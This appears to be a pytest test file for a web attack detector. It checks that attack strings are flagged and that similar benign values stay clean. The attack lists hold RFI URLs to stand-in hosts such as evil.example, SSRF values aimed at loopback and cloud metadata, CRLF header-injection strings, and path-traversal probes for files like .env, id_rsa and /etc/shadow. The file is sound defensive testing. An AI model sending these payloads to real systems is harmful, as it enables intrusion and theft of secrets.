"""Round 9 (URLs, paths and CRLF): the classes behind blind round 5's rfi/ssrf/ptrav/crlf misses and false positives."""
from __future__ import annotations

import pytest

from sensor.detect import THRESHOLD, verdict
from tests.detect.wild_benign import build_request

# Entries are (family, carrier, key, value) for attacks and (carrier, key, value) for benign values, sent the way
# tests/detect/wild_benign.py's build_request sends them; each list is one class of the round.
_X = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'

# (a) a scheme glued inside another so that a filter stripping `http://` once leaves a URL behind
NESTED_SCHEME = [
    ("rfi", "query", "page", "hhttp://ttp://evil.example.net/shell.txt"),
    ("rfi", "query", "file", "htthttps://ps://attacker.example/c99.txt?"),
    ("rfi", "query", "inc", "httphttp://://evil.example/inc/config"),
    ("rfi", "query", "page", "phphp://p://filter/convert.base64-encode/resource=index.php"),
    ("rfi", "form", "template", "ftftp://p://evil.example/pub/shell.txt"),
    ("rfi", "query", "page", "HThttp://TP://evil.example/x.txt?"),
    ("rfi", "json", "module", "hhttps://ttps://evil.example/mod"),
    ("rfi", "query", "doc", "fifile://le:///etc/passwd"),
]
NESTED_SCHEME_BENIGN = [
    ("json", "repository", "git+https://github.com/acme/widgets.git"),
    ("form", "url", "http://http://example.com/pricing"),
    ("json", "source", "https://web.archive.org/web/2024/https://example.com/about"),
    ("form", "ioc", "hxxp://malware-host[.]example/payload.bin"),
    ("json", "feed", "feed:https://blog.example.com/rss.xml"),
]

# (b) a one-token value (a file name, a language, a path), a line break and a content header of a split response
CONTENT_HEADER = [
    ("crlf", "form", "filename", "invoice.pdf\r\nContent-Type: text/html"),
    ("crlf", "query", "lang", "en\r\nContent-Type: text/html; charset=UTF-7"),
    ("crlf", "json", "download", "data.csv\nContent-Disposition: inline; filename=x.html"),
    ("crlf", "query", "file", "\r\nContent-Disposition: attachment; filename=\"setup.exe\""),
    ("crlf", "form", "name", "photo.jpg\rContent-Type: text/html"),
    ("crlf", "query", "next", "/account\r\nContent-Encoding: gzip"),
    ("crlf", "form", "attachment", "Q3 results.xlsx\r\nContent-Disposition: attachment; filename=run.hta"),
]
CONTENT_HEADER_BENIGN = [
    ("form", "message", "--boundary42\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n"
                        "Content-Type: text/plain\r\n\r\nhello\r\n--boundary42--"),
    ("form", "notes", "Set the upload endpoint headers:\nContent-Type: multipart/form-data"),
    ("form", "question", "Which header should I send?\nContent-Type: application/json or multipart/form-data"),
    ("json", "headers", "Accept: application/json\nContent-Type: application/json"),
    ("form", "filename", "report Content-Type notes.pdf"),
]

# (c) a loopback redirect URI of a native app (RFC 8252 §7.3): the browser is sent there, nothing fetches it
LOOPBACK_REDIRECT_BENIGN = [
    ("query", "redirect_uri", "http://[::1]:61234/"),
    ("form", "redirect_uri", "http://127.0.0.1:49152/"),
    ("json", "redirect_uris", '{"client_name": "CLI", "redirect_uris": ["http://127.0.0.1/", "http://[::1]/"]}'),
    ("query", "post_logout_redirect_uri", "http://localhost:3000/"),
    ("json", "redirectUri", "http://127.0.0.1:7777/auth"),
    ("query", "redirect_url", "http://localhost:8080/"),
]
LOOPBACK_FETCHED = [
    ("ssrf", "json", "webhook_url", "http://127.0.0.1:6379/"),
    ("ssrf", "form", "callback_url", "http://127.0.0.1:8080/admin"),
    ("ssrf", "query", "import_url", "http://localhost:9200/_cat/indices"),
    ("ssrf", "query", "redirect_uri", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "query", "redirect_uri", "http://2130706433/"),
    ("ssrf", "query", "redirect_uri", "gopher://127.0.0.1:6379/_INFO"),
    ("ssrf", "query", "request_uri", "http://127.0.0.1:8080/"),
    ("ssrf", "json", "logo_uri", "http://127.0.0.1/admin"),
    ("rfi", "query", "include_url", "http://203.0.113.5/inc"),
    ("rfi", "json", "template_url", "http://198.51.100.7/t"),
]

# (d) a file-transfer URL on a named public host in a field that says it is one
TRANSFER_FIELD_BENIGN = [
    ("form", "ftp_server", "ftp://ftp.example-partner.com/outgoing/"),
    ("json", "sftp_url", "sftp://backup.example.net:2222/srv/backups/"),
    ("json", "mirror_url", "ftp://ftp.us.debian.org/debian/"),
    ("form", "remote_host", "sftp://files.example.org/incoming"),
    ("json", "upstream", "ftp://ftp.gnu.org/gnu/bash/"),
    ("form", "ftp_host", "ftps://ftp.vendor.example.com:990/"),
]
TRANSFER_FIELD_ATTACKS = [
    ("rfi", "query", "page", "ftp://files.evil.example/pub/x"),
    ("rfi", "query", "file", "sftp://evil.example/inc"),
    ("rfi", "query", "x", "ftp://evil.example/payload"),
    ("ssrf", "form", "sftp_host", "sftp://127.0.0.1:22/"),
    ("rfi", "json", "mirror", "ftp://10.0.0.12/"),
    ("ssrf", "query", "url", "sftp://attacker.example:11111/"),
    ("ssrf", "json", "ftp_server", "gopher://127.0.0.1:25/_HELO"),
    ("rfi", "query", "mirror", "ftp://evil.example/shell.txt?"),
]

# (e) an `@` that opens a path segment (a profile handle, a package version) is no userinfo
AT_IN_PATH_BENIGN = [
    ("form", "blog", "https://medium.com/@john.smith/building-a-rate-limiter-3c9a1f2e"),
    ("json", "youtube", "https://www.youtube.com/@cooking.with.sam/videos"),
    ("json", "tiktok", "https://www.tiktok.com/@jane.doe.cooks/video/7234567890123456789"),
    ("form", "mastodon", "https://mastodon.social/@alice@fosstodon.org"),
    ("json", "script", "https://unpkg.com/react@18.2.0/umd/react.production.min.js"),
    ("form", "cdn", "https://esm.sh/preact@10.19.3/hooks"),
    ("json", "threads", "https://www.threads.net/@zuck.official"),
]
USERINFO_ATTACKS = [
    ("rfi", "json", "url", "http://shop.example%2f@evil.example/"),
    ("rfi", "query", "target", "http://trusted.example%2f@evil.example/x"),
    ("rfi", "json", "webhook", "https://good.example%2f:pass@evil.example/hook"),
    ("rfi", "json", "link", "http://trusted.example%5c@evil.example/"),
    ("rfi", "query", "next", "http://good.example/:x@evil.example/"),
    ("rfi", "json", "avatar", "https://good.example%23@evil.example/a.png"),
    ("rfi", "form", "site", "http://good.example%3f@evil.example/"),
    ("rfi", "path", "", "/go?to=http://shop.example%2f@evil.co/login"),
]

# (f) a page URL (`.php`, `.aspx`, `.jsp`) in a field that names a link or a destination
PAGE_LINK_BENIGN = [
    ("body:application/xml", "saml/logout",
     f'<samlp:LogoutRequest {_X} ID="_a1b2c3d4e5f6" Version="2.0" IssueInstant="2024-06-01T12:00:00Z" '
     'Destination="https://idp.example.org/simplesaml/saml2/idp/SingleLogoutService.php">'
     '<saml:Issuer>https://sp.example.org/metadata</saml:Issuer><saml:NameID>jane@example.org</saml:NameID>'
     '</samlp:LogoutRequest>'),
    ("body:application/xml", "saml/metadata",
     '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://idp.example.org/">'
     '<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
     '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" '
     'Location="https://idp.example.org/sso.php"/></md:IDPSSODescriptor></md:EntityDescriptor>'),
    ("json", "homepage", "https://www.example.org/index.php"),
    ("form", "website", "https://forum.example.net/viewtopic.php"),
    ("query", "ReturnUrl", "https://intranet.example.com/Default.aspx"),
    ("json", "privacy_policy_url", "https://www.example.com/privacy.jsp"),
]
PAGE_LINK_ATTACKS = [
    ("rfi", "query", "page", "http://evil.example/shell.php"),
    ("rfi", "query", "x", "https://evil.example/c99.php"),
    ("rfi", "query", "url", "http://evil.example/shell.txt"),
    ("rfi", "body:application/xml", "saml/acs",
     f'<samlp:AuthnRequest {_X} ID="_x1" Version="2.0" Destination="http://198.51.100.7/x.php"/>'),
    ("rfi", "query", "include_url", "http://evil.example/shell.php"),
    ("rfi", "query", "link", "http://evil.example/shell.php?"),
    ("rfi", "json", "template", "https://evil.example/t.php"),
]

# (g) an RFC 6570 URI template in a field named for one: a URL to expand, not a template to include
URI_TEMPLATE_BENIGN = [
    ("json", "urlTemplate", "https://tile.openstreetmap.org/{z}/{x}/{y}.png"),
    ("json", "uri_template", "https://api.example.com/users{/id}{?fields,embed}"),
    ("form", "link_template", "https://github.com/acme/repo/blob/{sha}/{path}"),
    ("json", "href_template", "https://docs.example.com/{version}/{page}"),
    ("json", "tile_url_template", "https://{s}.tiles.example.net/{z}/{x}/{y}@2x.png"),
]
URI_TEMPLATE_ATTACKS = [
    ("rfi", "json", "template", "https://evil.example/x"),
    ("rfi", "query", "tpl", "http://evil.example/shell"),
    ("rfi", "json", "template_url", "http://evil.example/t"),
    ("rfi", "json", "url_template", "http://203.0.113.5/x"),
    ("rfi", "json", "url_template", "http://evil.example/s.txt?"),
    ("rfi", "json", "url_template", "ftp://evil.example/x"),
]

# (h) YAML and other config text: nested keys named like headers (`  host:`) and mapping keys with no value (`server:`)
CONFIG_TEXT_BENIGN = [
    ("json", "values", "server:\n  host: 0.0.0.0\n  port: 8080"),
    ("json", "config", "database:\n  host: db.example.com\n  port: 5432\n  name: shop"),
    ("json", "application_yml", "spring:\n  application:\n    name: shop\nserver:\n  port: 8080"),
    ("json", "mail_config", "smtp:\n  host: smtp.example.com\n  port: 587\n  user: noreply"),
    ("form", "cache", "cache:\n  refresh: 300\n  location: /var/cache/app"),
    ("json", "chart_values", "replicaCount: 2\nservice:\n  type: ClusterIP\nproxy:\n    via: envoy\n    link: https://envoy.example/"),
]
CONFIG_TEXT_ATTACKS = [
    ("crlf", "query", "lang", "en\r\nSet-Cookie: sid=attacker"),
    ("crlf", "query", "next", "/\r\nLocation: https://evil.example/"),
    ("crlf", "form", "name", "x\r\nHost: evil.example"),
    ("crlf", "query", "v", "a\r\n Set-Cookie: x=1"),
    ("crlf", "json", "title", "ok\nX-Accel-Redirect: /internal/secret"),
    ("crlf", "query", "p", "abc\r\n\r\nHTTP/1.1 200 OK"),
    ("crlf", "query", "ref", "a:\r\nLocation: http://evil.example/"),
]

# (i) paths: entries are (carrier, value), sent with no parameter name
# Dot-folders served by design (repo browsers, the Vite/pnpm dev server, Storybook, VitePress), an application's log
# under /var/log/<app>/ named alone, and playbooks/Compose/cloud-init/k8s/Salt documents naming system paths as
# mapping values, list items or keys.
PATH_BENIGN = [
    ('path', '/node_modules/.vite/deps/chunk-5QWK2JZB.js?v=9f8e7d6c'),
    ('path', '/node_modules/.pnpm/react-dom@18.3.1/node_modules/react-dom/client.js'),
    ('path', '/raw/main/.github/ISSUE_TEMPLATE/bug_report.md'),
    ('path', '/.storybook/preview.tsx?t=1718000000000'),
    ('path', '/docs/.vitepress/theme/custom.css'),
    ('path', '/browse/main/.devcontainer/devcontainer.json'),
    ('path', '/blob/main/.husky/pre-commit'),
    ('path', '/files/.changeset/README.md'),
    ('json', '/var/log/billing-api/server.log'),
    ('form', '/var/log/acme/worker.log'),
    ('json', '/var/log/myservice/app-2024-06-01.log'),
    ('query', '/var/log/gunicorn-shop/access.log'),
    ('body:text/yaml', '- hosts: db\n  become: true\n  tasks:\n    - name: tune postgres\n      ansible.builtin.lineinfile:\n        path: /etc/postgresql/16/main/postgresql.conf\n        line: shared_buffers = 1GB\n'),
    ('body:text/yaml', 'services:\n  web:\n    image: nginx:1.27\n    volumes:\n      - ./nginx.conf:/etc/nginx/nginx.conf:ro\n      - /var/log/nginx:/var/log/nginx\n'),
    ('body:application/x-yaml', "#cloud-config\nwrite_files:\n  - path: /etc/systemd/system/app.service\n    owner: root:root\n    permissions: '0644'\n"),
    ('body:text/yaml', 'apiVersion: v1\nkind: Pod\nspec:\n  volumes:\n    - name: logs\n      hostPath:\n        path: /var/log/pods\n  containers:\n    - name: shipper\n      image: fluent/fluent-bit\n'),
    ('body:text/yaml', '/etc/nginx/nginx.conf:\n  file.managed:\n    - source: salt://nginx/files/nginx.conf\n    - user: root\n    - mode: 644\n'),
    ('json', "- name: harden ssh\n  lineinfile:\n    dest: /etc/ssh/sshd_config\n    regexp: '^PermitRootLogin'\n    line: PermitRootLogin no\n"),
]
# Secrets in dot-folders (also inside a public one or reached through it), service and system logs that LFI log
# poisoning reads, traversal into an app log, and a playbook line that reads a file rather than naming one.
PATH_ATTACKS = [
    ('path', '/.git/config'),
    ('path', '/.env'),
    ('path', '/.env.production'),
    ('path', '/.ssh/id_rsa'),
    ('path', '/.aws/credentials'),
    ('path', '/.svn/entries'),
    ('path', '/.hg/hgrc'),
    ('path', '/.DS_Store'),
    ('path', '/.vscode/sftp.json'),
    ('path', '/.idea/workspace.xml'),
    ('path', '/.docker/config.json'),
    ('path', '/.github/../.git/config'),
    ('path', '/node_modules/.vite/../../.env'),
    ('path', '/.devcontainer/.env'),
    ('path', '/.terraform/terraform.tfstate'),
    ('path', '/.npmrc'),
    ('query', '/var/log/apache2/access.log'),
    ('query', '/var/log/nginx/error.log'),
    ('json', '/var/log/auth.log'),
    ('form', '/var/log/httpd/access_log'),
    ('query', '/var/log/mysql/error.log'),
    ('json', '/var/log/vsftpd.log'),
    ('query', '../../../var/log/myapp/app.log'),
    ('form', '/var/log/myapp/../../../etc/shadow'),
    ('query', '/var/log/proftpd/proftpd.log'),
    ('json', '/var/log/postgresql/postgresql-16-main.log'),
    ('body:text/yaml', '- hosts: all\n  tasks:\n    - shell: cat /etc/nginx/nginx.conf\n    - debug: msg=done\n'),
    ('query', '/etc/nginx/sites-available/default'),
    ('form', '/var/log/nginx/access.log%00'),
    ('json', '/etc/nginx/nginx.conf'),
    ('form', 'a\n../../etc/nginx/nginx.conf'),
]

ATTACKS = (NESTED_SCHEME + CONTENT_HEADER + LOOPBACK_FETCHED + TRANSFER_FIELD_ATTACKS + USERINFO_ATTACKS
           + PAGE_LINK_ATTACKS + URI_TEMPLATE_ATTACKS + CONFIG_TEXT_ATTACKS)
BENIGN = (NESTED_SCHEME_BENIGN + CONTENT_HEADER_BENIGN + LOOPBACK_REDIRECT_BENIGN + TRANSFER_FIELD_BENIGN
          + AT_IN_PATH_BENIGN + PAGE_LINK_BENIGN + URI_TEMPLATE_BENIGN + CONFIG_TEXT_BENIGN)
ATTACKS += [("ptrav", carrier, "", value) for carrier, value in PATH_ATTACKS]
BENIGN += [(carrier, "", value) for carrier, value in PATH_BENIGN]
# attack families that count for each expected family (an rfi include from an internal host is also ssrf's)
_FAMILIES = {"rfi": ("rfi", "ssrf"), "ssrf": ("ssrf", "rfi"), "crlf": ("crlf",), "ptrav": ("ptrav",)}


def _id(entry: tuple) -> str:
    return ":".join(entry[-3:-1]) + ":" + entry[-1][:60].encode("unicode_escape").decode()


@pytest.mark.parametrize("entry", ATTACKS, ids=[_id(e) for e in ATTACKS])
def test_round9_attack_is_caught_by_its_family(engine, entry):
    family, carrier, key, value = entry
    hits = engine.inspect(build_request(carrier, value, key))
    assert any(h.type in _FAMILIES[family] and h.score >= THRESHOLD for h in hits), hits


@pytest.mark.parametrize("entry", BENIGN, ids=[_id(e) for e in BENIGN])
def test_round9_benign_is_clean(engine, entry):
    carrier, key, value = entry
    hits = engine.inspect(build_request(carrier, value, key))
    assert verdict(hits) == "clean", hits


def test_round9_sizes():
    assert len({_id(e) for e in ATTACKS}) == len(ATTACKS) >= 55 + 31
    assert len({_id(e) for e in BENIGN}) == len(BENIGN) >= 45 + 18
    assert not {e[1:] for e in ATTACKS} & set(BENIGN)
